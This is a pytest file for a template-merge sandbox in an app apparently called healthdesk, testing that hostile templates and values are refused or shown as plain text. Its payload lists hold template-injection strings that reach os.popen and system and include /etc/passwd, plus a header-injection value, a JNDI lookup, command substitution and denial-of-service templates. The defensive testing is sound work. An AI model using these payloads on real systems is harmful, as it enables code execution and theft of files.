"""S-09: texts with fields that try to do more than show a field, and values that try to be one.

Each is refused with its line, or shows itself as plain words; none runs, none takes long.
"""

from __future__ import annotations

import re
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from healthdesk.core.domain.errors import UsageError
from healthdesk.core.domain.template import (
    FIELDS,
    MOST_OUTPUT,
    MOST_SOURCE,
    MOST_VALUE,
    has_fields,
)
from healthdesk.core.services.merge_sandbox import Template

KNOWN = {
    "first_name": "Dana",
    "account": "Aldermoor",
    "days_to_renewal": 69,
    "top_features": ["Routes", "Reports"],
    "tickets": [{"subject": "Export", "priority": "high", "opened_on": "1 Nov", "days": "3"}] * 50,
    'attribute["region"]': "DACH",
}
BIG = "A" * 3_000
HOSTILE = (
    # What is known to break out of templates, or to use up a machine.
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ first_name.__class__ }}",
    "{{ first_name.__init__.__globals__ }}",
    "{{ config }}",
    "{{ self }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].system('id') }}",
    "{{ request.application.__globals__ }}",
    "{{ range(10**9) | list }}",
    "{{ 'A' * 10**9 }}",
    "{{ 9**9**9 }}",
    "{% for a in range(10**8) %}{% for b in range(10**8) %}x{% endfor %}{% endfor %}",
    "{{ '%1000000000d' | format(1) }}",
    # Ways to the same by other doors.
    "{{ namespace(a=1) }}",
    "{{ joiner(',') }}",
    "{{ dict(a=1) }}",
    "{{ first_name['__class__'] }}",
    '{{ attribute["__class__"].__mro__ }}',
    "{{ attribute.__class__ }}{{ attribute.items() }}",
    "{{ attribute }}",
    "{{ first_name | attr('__class__') }}",
    "{{ first_name | map('upper') }}",
    "{{ first_name | safe }}",
    "{{ first_name | replace('a', 'aaaaaaaaaa') }}",
    "{{ first_name | center(1000000000) }}",
    "{{ first_name | pprint }}",
    "{{ tickets | tojson }}",
    "{{ tickets }}",
    "{{ tickets.append('x') }}",
    "{{ tickets.__len__() }}",
    "{{ top_features.pop() }}",
    "{{ first_name.format('x') }}",
    "{{ '{0.__class__}'.format(first_name) }}",
    "{{ first_name ~ account }}",
    "{{ first_name + account }}",
    "{{ days_to_renewal * 1000000000 }}",
    "{{ days_to_renewal // 0 }}",
    "{{ [first_name, first_name] }}",
    "{{ {'a': first_name} }}",
    "{{ (first_name, account) }}",
    "{{ first_name if account else 'x' }}",
    "{{ first_name is defined }}",
    "{{ caller() }}",
    "{{ super() }}",
    "{{ loop }}",
    "{{ top_features[0:1] }}",
    "{{ top_features[0] }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% from 'os' import system %}",
    "{% extends 'base' %}",
    "{% set x = first_name %}",
    "{% macro m() %}x{% endmacro %}",
    "{% call m() %}x{% endcall %}",
    "{% filter upper %}x{% endfilter %}",
    "{% block b %}x{% endblock %}",
    "{% with a = 1 %}{{ a }}{% endwith %}",
    "{% autoescape true %}{{ first_name }}{% endautoescape %}",
    "{% do x() %}",
    "{% debug %}",
    "{% trans %}x{% endtrans %}",
    "{% for x in attribute %}{{ x }}{% endfor %}",
    "{% for x in first_name %}{{ x }}{% endfor %}",
    "{% for x in top_features recursive %}{{ loop(x) }}{% endfor %}",
    "{% for x in top_features if x %}{{ x }}{% endfor %}",
    "{% for a, b in tickets %}{{ a }}{% endfor %}",
    "{% for first_name in tickets %}{{ first_name.subject }}{% endfor %}",
    "{% for _x in top_features %}{{ _x }}{% endfor %}",
    "{% for t in tickets %}{{ t.keys() }}{% endfor %}",
    "{% for t in tickets %}{{ t.__class__ }}{% endfor %}",
    "{% for t in tickets %}{{ t['items'] }}{% endfor %}",
    "{{ first_name | join(first_name) }}",
    "{{ first_name | default(x=1) }}",
    "{{ first_name | truncate(*top_features) }}",
    "{{ first_name | default('" + BIG[:201] + "') }}",
    "{{ first_name | truncate(99999999999999999999) }}",
    "{{ first_nam }}",
    "{{ }}",
    "{{ first_name",
    "{% if first_name %}",
    "{% endif %}",
    "{% if " + "not " * 4_000 + "first_name %}x{% endif %}",
    "{{ " + "(" * 5_000 + "first_name" + ")" * 5_000 + " }}",
    "{% if first_name %}" * 300 + "x" + "{% endif %}" * 300,
    "{{ first_name" + " | upper" * 1_000 + " }}",
    "{{ " + "9" * 5_000 + " }}",
    "{{ first_name == " + "-" * 3_000 + "1 }}",
    "x" * (MOST_SOURCE + 1),
)


@pytest.mark.parametrize("source", HOSTILE, ids=range(len(HOSTILE)))
def test_s09_what_is_more_than_a_field_is_refused_with_its_place(source):
    template = Template("Dear\n" + source, {"region"})
    (fault, *_) = template.faults
    assert fault.line in (1, 2)
    assert fault.at >= 1
    assert fault.sentence.endswith(".")
    filled = template.fill(KNOWN)
    assert filled.faults == template.faults
    assert filled.text == template.source, "what cannot be filled is shown as it is, never blank"


def test_s09_there_are_sixty_hostile_templates_at_least():
    assert len(set(HOSTILE)) >= 60


VALUES = (
    "{{ 7 * 7 }}",
    "{{ first_name }}",
    "{% for a in tickets %}x{% endfor %}",
    "{# gone #}",
    "{{ ''.__class__ }}",
    "<b>bold</b><script>alert(1)</script>",
    "<img src='file:///etc/passwd'>",
    "[link](file:///etc/passwd)",
    "=HYPERLINK(1)",
    "a\r\nBcc: eve@evil.example",
    "\x022\x03",
    "\x02" * 9 + "0\x03",
    "\u202egnp.exe",
    "\x00\x01\x7f",
    "\ud800",
    "A" * 1_000_000,
    "Ünïcødé 漢字 🙂",
    "%s%n{0}",
    "${jndi:ldap://x}",
    "`id`$(id)",
)


@pytest.mark.parametrize("value", VALUES, ids=range(len(VALUES)))
def test_s09_a_value_is_words_and_nothing_else(value):
    filled = Template("Dear {{ account }}, {{ first_name }}!").fill(
        {**KNOWN, "account": value, "first_name": "Dana"}
    )
    assert not filled.faults
    assert filled.runs[-2:] == (("Dana", "field"), ("!", "plain"))
    shown = "".join(words for words, kind in filled.runs if kind == "field")
    assert len(shown) <= MOST_VALUE + 4
    assert "49" not in shown
    assert not set(shown) & set("\x00\x01\x02\x03\x7f\r\u202e")
    if value.isprintable() and len(value) < MOST_VALUE:
        told = re.sub(r"\{(?=[{%#])", "{ ", value)
        assert filled.text == f"Dear {told}, Dana!"
    assert filled.missing or not has_fields(filled.text), "a value is never taken for a field later"


def test_s09_loops_that_make_too_much_or_take_too_long_end():
    twice = "{% for a in tickets %}{% for b in tickets %}{{ account }}{% endfor %}{% endfor %}"
    with pytest.raises(UsageError, match="longer than 200 KB"):
        Template(twice).fill({**KNOWN, "account": "A" * 2_000})
    with pytest.raises(UsageError, match="too long"):
        Template(twice).fill(KNOWN, seconds=0)


def test_s09_a_third_loop_is_refused():
    deep = "{% for a in tickets %}" * 3 + "x" + "{% endfor %}" * 3
    assert Template(deep).faults[0].sentence == "More than 2 loops stand within each other."


_SIGNS = (
    "{{ }} {% %} {# #} if for in endif endfor else elif not and or == . [ ] ( ) | \" ' 1 0 - ~ *"
    " + upper join default first __class__"
)
NAMES = st.sampled_from([one.key for one in FIELDS] + ["attribute", "loop", "self", "x"])
PIECES = st.one_of(
    NAMES,
    st.sampled_from([*_SIGNS.split(), "\n"]),
    st.text(max_size=3),
)


@settings(max_examples=150)
@given(st.lists(PIECES, max_size=25).map(" ".join))
def test_s09_anything_is_filled_or_refused_and_never_blank(source):
    template = Template(source)
    values = {key: KNOWN.get(key) for key in template.keys}
    filled = template.fill(values)
    assert len(filled.text.encode("utf-8", "replace")) <= MOST_OUTPUT
    if filled.faults:
        assert filled.text == template.source
    assert "healthdesk" not in filled.text
    assert "<built-in" not in filled.text


@given(st.text(st.characters(exclude_characters="{\x00\r", exclude_categories=["Cc", "Cs"])))
def test_s09_a_text_without_fields_is_itself(words):
    assert Template(words).fill({}).text == words


def test_the_sandbox_is_not_there_before_a_text_has_fields():
    held = {name: sys.modules.pop(name) for name in list(sys.modules) if name.startswith("jinja2")}
    try:
        Template("Plain words").fill({})
        assert "jinja2" not in sys.modules
    finally:
        sys.modules.update(held)
